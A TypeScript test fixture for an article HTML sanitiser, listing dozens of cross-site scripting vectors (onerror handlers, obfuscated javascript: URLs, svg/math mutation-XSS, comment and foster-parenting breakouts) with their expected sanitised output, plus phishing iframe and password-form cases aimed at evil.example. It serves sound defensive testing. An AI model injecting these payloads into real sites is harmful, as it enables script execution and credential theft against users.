// Hand-made attack vectors for the article sanitiser (decision 026) and what must come out.
// The vitest file checks each output exactly; the e2e corpus spec saves every input as an
// article and opens it in Chromium. Payloads call alert() or set window.__xss, which the
// browser test watches.

export type Vector = [name: string, input: string, expected: string];

const IMG = "<img src=x onerror=alert(document.domain)>";

/** What the attack run executed in Chromium against the HTMLRewriter sanitiser. */
export const DEFECT_VECTORS: Vector[] = [
  [
    "nested xmp leaks its raw text",
    "<xmp><xmp><img src=x onerror=alert(document.domain)></xmp></xmp>",
    "&lt;xmp&gt;&lt;img src=x onerror=alert(document.domain)&gt;",
  ],
  ["unfinished trailing tag", "<p>Tekst</p><img src=x onerror=alert(document.domain)//", "<p>Tekst</p>"],
  ["unfinished iframe", "<iframe src=https://evil.example/phish.html <", ""],
];

export const RAW_TEXT_VECTORS: Vector[] = [
  ["xmp", `<xmp>${IMG}</xmp>`, "&lt;img src=x onerror=alert(document.domain)&gt;"],
  ["xmp closing a paragraph", `<p>a<xmp></p>${IMG}</xmp>`, "<p>a</p>&lt;/p&gt;&lt;img src=x onerror=alert(document.domain)&gt;"],
  ["noembed", `<noembed>${IMG}</noembed>`, "&lt;img src=x onerror=alert(document.domain)&gt;"],
  ["noframes", `<noframes>${IMG}</noframes>`, "&lt;img src=x onerror=alert(document.domain)&gt;"],
  ["plaintext", `<plaintext>${IMG}</plaintext>`, "&lt;img src=x onerror=alert(document.domain)&gt;&lt;/plaintext&gt;"],
  ["iframe text without an address", `<iframe>${IMG}</iframe>`, ""],
  [
    "iframe text under a video address",
    `<iframe src="https://www.youtube-nocookie.com/embed/abc">${IMG}</iframe>`,
    '<iframe src="https://www.youtube-nocookie.com/embed/abc"></iframe>',
  ],
  ["textarea", `<textarea>${IMG}</textarea><p>po</p>`, "<p>po</p>"],
  ["title", `<title>${IMG}</title><p>po</p>`, "<p>po</p>"],
  ["style", `<style>${IMG}</style><p>po</p>`, "<p>po</p>"],
  ["style with a breakout", `<style></style>${IMG}</style>`, "<img>"],
  ["script", "<script>window.__xss=1</script><p>po</p>", "<p>po</p>"],
  ["escaped markup stays text", "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;b&amp;gt;", "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;b&amp;gt;"],
];

export const NAMESPACE_VECTORS: Vector[] = [
  ["svg foreignObject", `<svg><foreignObject>${IMG}</foreignObject></svg><p>po</p>`, "<p>po</p>"],
  ["math foreign content", `<math><mtext>${IMG}</mtext></math>`, ""],
  ["svg a xlink:href", '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>', ""],
  ["svg script", "<svg><script>alert(1)</script></svg>", ""],
  ["svg animate href", '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>', ""],
  ["a <p> breaks out of svg", `<svg><p>${IMG}`, "<p><img></p>"],
  ["mglyph style mXSS", `<math><mi><mglyph><style>${IMG}`, ""],
  ["malignmark mXSS", `<math><mtext><table><mglyph><malignmark><style>${IMG}`, ""],
  ["form/math mXSS", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", ""],
  ["svg style breakout", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', '<p></p><img>"&gt;'],
];

export const COMMENT_VECTORS: Vector[] = [
  ["abrupt comment", `<!--><img src=x onerror=alert(1)>-->`, "<img>--&gt;"],
  ["conditional comment", `<!--[if]><img src=x onerror=alert(1)><![endif]-->`, ""],
  ["comment closed by --!>", `<!-- --!><img src=x onerror=alert(1)>-->`, "<img>--&gt;"],
  ["CDATA is a bogus comment in HTML", `<![CDATA[><img src=x onerror=alert(1)>]]>`, "<img>]]&gt;"],
  ["processing instruction", `<?xml <img src=x onerror=alert(1)> ?><p>po</p>`, "?&gt;<p>po</p>"],
  ["doctype", "<!DOCTYPE html><p>po</p>", "<p>po</p>"],
  ["unfinished comment", `<p>a</p><!--${IMG}`, "<p>a</p>"],
];

export const CONTAINER_VECTORS: Vector[] = [
  ["template content", `<template>${IMG}<script>alert(1)</script></template><p>po</p>`, "<p>po</p>"],
  ["template in a paragraph", "<p>a<template><p>b</p></template>c</p>", "<p>ac</p>"],
  ["noscript title breakout", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<img>"&gt;'],
  ["object", '<object data="javascript:alert(1)"><p>x</p></object>', ""],
  ["embed", '<embed src="javascript:alert(1)">', ""],
  ["base", '<base href="https://evil.example/"><p>po</p>', "<p>po</p>"],
  ["meta refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', ""],
  ["link", '<link rel="stylesheet" href="https://evil.example/x.css">', ""],
  ["form controls", '<form action="https://evil.example"><input name="haslo"><button>Zaloguj</button></form>', ""],
  ["video source", "<video><source onerror=alert(1)></video>", ""],
  ["details ontoggle", "<details open ontoggle=alert(1)><summary>x</summary>y</details>", "xy"],
  ["marquee onstart", "<marquee onstart=alert(1)>x</marquee>", "x"],
  ["body onload", "<body onload=alert(1)>x", "x"],
  ["whole document", "<html><head><title>t</title></head><body><p>x</p></body></html>", "<p>x</p>"],
];

export const UNFINISHED_VECTORS: Vector[] = [
  ["unfinished attribute", '<p>a</p><a href="/x" onclick="alert(1)"', "<p>a</p>"],
  ["unfinished quoted value", '<p>a</p><img src="/x.png" onerror="alert(1)', "<p>a</p>"],
  ["unfinished tag name", "<p>a</p><scr", "<p>a</p>"],
  ["unfinished inside a paragraph", "<p>a<img src=/x.png onerror=alert(1)", "<p>a</p>"],
  ["a lone < is text", "<p>a</p><", "<p>a</p>&lt;"],
  ["unfinished end tag", "<p>a</p></scrip", "<p>a</p>"],
];

export const URL_VECTORS: Vector[] = [
  ["tab inside javascript:", '<a href="jav&#x09;ascript:alert(1)">x</a>', "<a>x</a>"],
  ["entity javascript:", '<a href="&#106;avascript:alert(1)">x</a>', "<a>x</a>"],
  ["raw control character first", '<a href="\x01javascript:alert(1)">x</a>', "<a>x</a>"],
  ["encoded control character", '<a href="&#x01;javascript:alert(1)">x</a>', "<a>x</a>"],
  ["newline inside", '<a href="java&#10;script:alert(1)">x</a>', "<a>x</a>"],
  ["&colon;", '<a href="javascript&colon;alert(1)">x</a>', "<a>x</a>"],
  ["upper case and spaces", '<a href="  JAVASCRIPT:alert(1)">x</a>', "<a>x</a>"],
  ["data: link", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', "<a>x</a>"],
  ["vbscript:", '<a href="vbscript:msgbox(1)">x</a>', "<a>x</a>"],
  ["data: image", '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">', "<img>"],
  ["javascript: image", '<img src="javascript:alert(1)">', "<img>"],
  ["protocol-relative image", '<img src="//evil.example/x.png">', "<img>"],
  ["backslash image", '<img src="/\\evil.example/x.png">', "<img>"],
  ["javascript: iframe", '<iframe src="javascript:alert(1)"></iframe>', ""],
  ["foreign iframe", '<iframe src="https://evil.example/embed/x"></iframe>', ""],
  ["srcdoc iframe", `<iframe srcdoc="${IMG.replace(/"/g, "&quot;")}"></iframe>`, ""],
  ["srcset", '<img src="/a.png" srcset="javascript:alert(1) 1x, https://evil.example/x.png 2x">', '<img src="/a.png">'],
  ["formaction", '<button formaction="javascript:alert(1)">x</button><input type=submit formaction=javascript:alert(1)>', ""],
  ["on* attributes", '<p onclick="alert(1)" onmouseover=alert(2) ONLOAD=alert(3)>x</p>', "<p>x</p>"],
  ["on* on an image", '<img src="/a.png" onerror=alert(1) onload="window.__xss=1">', '<img src="/a.png">'],
  ["style url", '<p style="background:url(javascript:alert(1))">x</p>', "<p>x</p>"],
  ["style smuggled after text-align", '<p style="text-align:center;background:url(//evil.example)">x</p>', "<p>x</p>"],
  ["target other than _blank", '<a href="/x" target="_top" rel="opener">x</a>', '<a href="/x">x</a>'],
];

export const STRUCTURE_VECTORS: Vector[] = [
  ["nested a", '<a href="/1">a<a href="/2">b</a></a>', '<a href="/1">a</a><a href="/2">b</a>'],
  ["nested a through marquee", '<a href="/1"><marquee><a href="/2">x</a></marquee></a>', '<a href="/1"></a><a href="/2">x</a>'],
  [
    "a in a table cell in an a",
    '<a href="/1"><table><tr><td><a href="/2">x</a></td></tr></table></a>',
    '<a href="/1"><table><tbody><tr><td><a href="/2">x</a></td></tr></tbody></table></a>',
  ],
  ["foster-parented image", `<table>${IMG}<tr><td>x</td></tr></table>`, "<img><table><tbody><tr><td>x</td></tr></tbody></table>"],
  ["foster-parented link", '<table><a href="javascript:alert(1)">x</a></table>', "<a>x</a><table></table>"],
  [
    "foster parenting with a script",
    "<table><tr><td>a</td></tr>b<script>alert(1)</script></table>",
    "b<table><tbody><tr><td>a</td></tr></tbody></table>",
  ],
  ["div inside p through marquee", "<p><marquee><div>x</div></marquee></p>", "<p></p><div>x</div><p></p>"],
  ["leading newline in pre", "<pre>\n\nx</pre>", "<pre>\n\nx</pre>"],
];

/** What the editor writes, kept as it is. */
export const KEPT_VECTORS: Vector[] = [
  [
    "paragraph with formatting",
    "<p>Pierwszy <strong>akapit</strong> i <em>drugi</em> <u>trzeci</u></p>",
    "<p>Pierwszy <strong>akapit</strong> i <em>drugi</em> <u>trzeci</u></p>",
  ],
  ["non-breaking space and quotes", '<p>a&nbsp;b "c" & d</p>', '<p>a&nbsp;b "c" &amp; d</p>'],
  ["aligned heading", '<h2 style="text-align: center;">Śródtytuł</h2>', '<h2 style="text-align: center;">Śródtytuł</h2>'],
  [
    "links",
    '<a href=" https://example.com/a b " target="_blank">x</a><a href="mailto:redakcja@example.com">m</a><a href="#przypisy">p</a>',
    '<a href="https://example.com/a%20b" target="_blank" rel="noopener noreferrer">x</a><a href="mailto:redakcja@example.com">m</a><a href="#przypisy">p</a>',
  ],
  [
    "image with escaped alt",
    '<img src="/api/upload/images/a.png" alt="&quot;><script>alert(1)</script>" width="300" height="50%">',
    '<img src="/api/upload/images/a.png" alt="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;" width="300" height="50%">',
  ],
  [
    "video embed",
    '<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" width="560" height="315" allowfullscreen onload=alert(1)></iframe>',
    '<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" width="560" height="315" allowfullscreen=""></iframe>',
  ],
  ["table cells", '<table><tr><td colspan="2" rowspan="x">a</td></tr></table>', '<table><tbody><tr><td colspan="2">a</td></tr></tbody></table>'],
];

export const ALL_VECTORS: Vector[] = [
  ...DEFECT_VECTORS,
  ...RAW_TEXT_VECTORS,
  ...NAMESPACE_VECTORS,
  ...COMMENT_VECTORS,
  ...CONTAINER_VECTORS,
  ...UNFINISHED_VECTORS,
  ...URL_VECTORS,
  ...STRUCTURE_VECTORS,
  ...KEPT_VECTORS,
];
